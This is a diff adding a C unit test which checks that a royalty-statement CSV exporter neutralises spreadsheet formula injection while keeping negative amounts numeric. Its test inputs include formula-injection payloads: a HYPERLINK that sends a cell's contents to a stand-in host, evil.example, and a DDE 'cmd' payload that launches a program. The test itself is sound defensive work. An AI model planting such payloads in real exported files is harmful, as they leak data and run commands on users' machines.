@@ -147,6 +147,136 @@ static void test_csv_quotes_commas_and_quotes(void **state)
 	ft_statement_free(st);
 }
 
+/* What docs/STATEMENTS.md tells a reader to do: drop one leading apostrophe
+ * from a text field. */
+static void read_text(char *dst, size_t cap, const struct ft_csv_field *f)
+{
+	ft_csv_unquote(dst, cap, f);
+	if (dst[0] == '\'')
+		memmove(dst, dst + 1, strlen(dst));
+}
+
+static int formula_start(const char *text)
+{
+	return text[0] && strchr("=+-@\t\r", text[0]) != NULL;
+}
+
+/*
+ * Texts that a spreadsheet would run as formulas (track titles, stores and
+ * names come from reports and catalogues) are written with a leading
+ * apostrophe and read back exactly; numbers, negative ones included, are
+ * written as plain numbers.
+ */
+static void test_csv_neutralises_formulas_but_not_negative_numbers(void **state)
+{
+	static const char *const hostile[] = {
+	    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+	    "+1+cmd|' /C calc'!A0",
+	    "-2+3",
+	    "@SUM(1,2)",
+	    "'quoted already",
+	    "Plain title",
+	};
+	struct ft_statement *st;
+	struct ft_statement_line l;
+	struct ft_csv_field f[32];
+	char path[600], text[256], raw[256];
+	struct ft_lines it;
+	const char *line;
+	size_t len, n, i, row = 0;
+	char *buf;
+
+	(void)state;
+	assert_int_equal(ft_statement_new(&st, NULL), 0);
+	assert_int_equal(ft_statement_set_header(st, "ST-1", "=label()", "p1", "@Payee", "-acct",
+						 "2026-10-15", "EUR", NULL),
+			 0);
+	for (i = 0; i < sizeof(hostile) / sizeof(hostile[0]); i++) {
+		memset(&l, 0, sizeof(l));
+		l.track = hostile[i];
+		l.release = hostile[(i + 1) % 6];
+		l.store = hostile[(i + 2) % 6];
+		l.commercial_model = "subscription";
+		l.use_type = hostile[(i + 3) % 6];
+		memcpy(l.territory, "GB", 3);
+		/* A return: negative units, receipts and royalty. */
+		l.units = -3;
+		l.receipts = -FT_AMOUNT_ONE * 3 / 2;
+		l.rate = FT_AMOUNT_ONE / 10;
+		l.royalty = -FT_AMOUNT_ONE * 15 / 100;
+		assert_int_equal(ft_statement_add_line(st, &l, NULL), 0);
+	}
+	snprintf(path, sizeof(path), "%s/formula.csv", testutil_tmpdir());
+	assert_int_equal(ft_render_csv(st, path, NULL), 0);
+	buf = slurp(path, &len);
+	ft_lines_init(&it, buf, len);
+	assert_true(ft_lines_next(&it, &line, &len, NULL));
+	while (ft_lines_next(&it, &line, &len, NULL)) {
+		const struct ft_statement_line *sl = &st->lines[row++];
+		static const int texts[] = {0, 3, 4, 5, 6, 7, 8, 9, 10, 11};
+
+		assert_int_equal(ft_csv_split(f, 32, &n, line, len, ',', NULL), 0);
+		assert_int_equal(n, 17);
+		/* No text field starts a formula as a spreadsheet reads it. */
+		for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
+			ft_csv_unquote(raw, sizeof(raw), &f[texts[i]]);
+			assert_false(formula_start(raw));
+		}
+		read_text(text, sizeof(text), &f[3]);
+		assert_string_equal(text, sl->track);
+		read_text(text, sizeof(text), &f[5]);
+		assert_string_equal(text, sl->release);
+		read_text(text, sizeof(text), &f[7]);
+		assert_string_equal(text, sl->store);
+		read_text(text, sizeof(text), &f[10]);
+		assert_string_equal(text, sl->use_type);
+		ft_csv_unquote(raw, sizeof(raw), &f[3]);
+		if (formula_start(sl->track) || sl->track[0] == '\'')
+			assert_int_equal(raw[0], '\'');
+		else
+			assert_string_equal(raw, sl->track);
+		/* Numbers stay numbers: "-3", "-1.50", "-0.15". */
+		ft_csv_unquote(raw, sizeof(raw), &f[12]);
+		assert_string_equal(raw, "-3");
+		ft_csv_unquote(raw, sizeof(raw), &f[13]);
+		assert_string_equal(raw, "-1.50");
+		assert_true(field_amount(&f[13]) == l.receipts);
+		assert_true(field_amount(&f[15]) == l.royalty);
+		assert_true(field_amount(&f[16]) == l.royalty);
+	}
+	assert_int_equal(row, st->n_lines);
+	free(buf);
+
+	/* The summary: the names read back, the negative royalties total is a
+	 * number. */
+	snprintf(path, sizeof(path), "%s/formula.summary.csv", testutil_tmpdir());
+	buf = slurp(path, &len);
+	ft_lines_init(&it, buf, len);
+	assert_true(ft_lines_next(&it, &line, &len, NULL));
+	while (ft_lines_next(&it, &line, &len, NULL)) {
+		char section[32], key[64];
+
+		assert_int_equal(ft_csv_split(f, 32, &n, line, len, ',', NULL), 0);
+		ft_csv_unquote(section, sizeof(section), &f[0]);
+		ft_csv_unquote(key, sizeof(key), &f[1]);
+		ft_csv_unquote(raw, sizeof(raw), &f[2]);
+		assert_false(formula_start(raw));
+		read_text(text, sizeof(text), &f[2]);
+		if (strcmp(section, "statement") == 0 && strcmp(key, "payee_name") == 0)
+			assert_string_equal(text, "@Payee");
+		if (strcmp(section, "statement") == 0 && strcmp(key, "label") == 0)
+			assert_string_equal(text, "=label()");
+		if (strcmp(section, "statement") == 0 && strcmp(key, "account") == 0)
+			assert_string_equal(text, "-acct");
+		if (strcmp(section, "balance") == 0 && strcmp(key, "royalties") == 0) {
+			ft_csv_unquote(raw, sizeof(raw), &f[5]);
+			assert_string_equal(raw, "-0.90");
+		}
+	}
+	free(buf);
+	ft_statement_free(st);
+}
+
 static void test_csv_is_byte_identical_twice(void **state)
 {
 	struct ft_statement *st = sample();
@@ -207,6 +337,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 	    cmocka_unit_test(test_csv_lines_read_back_exactly_and_sum_to_total),
 	    cmocka_unit_test(test_csv_quotes_commas_and_quotes),
+	    cmocka_unit_test(test_csv_neutralises_formulas_but_not_negative_numbers),
 	    cmocka_unit_test(test_csv_is_byte_identical_twice),
 	    cmocka_unit_test(test_csv_summary_matches_the_reviewed_sample),
 	    cmocka_unit_test(test_csv_unwritable_path_is_an_io_error),
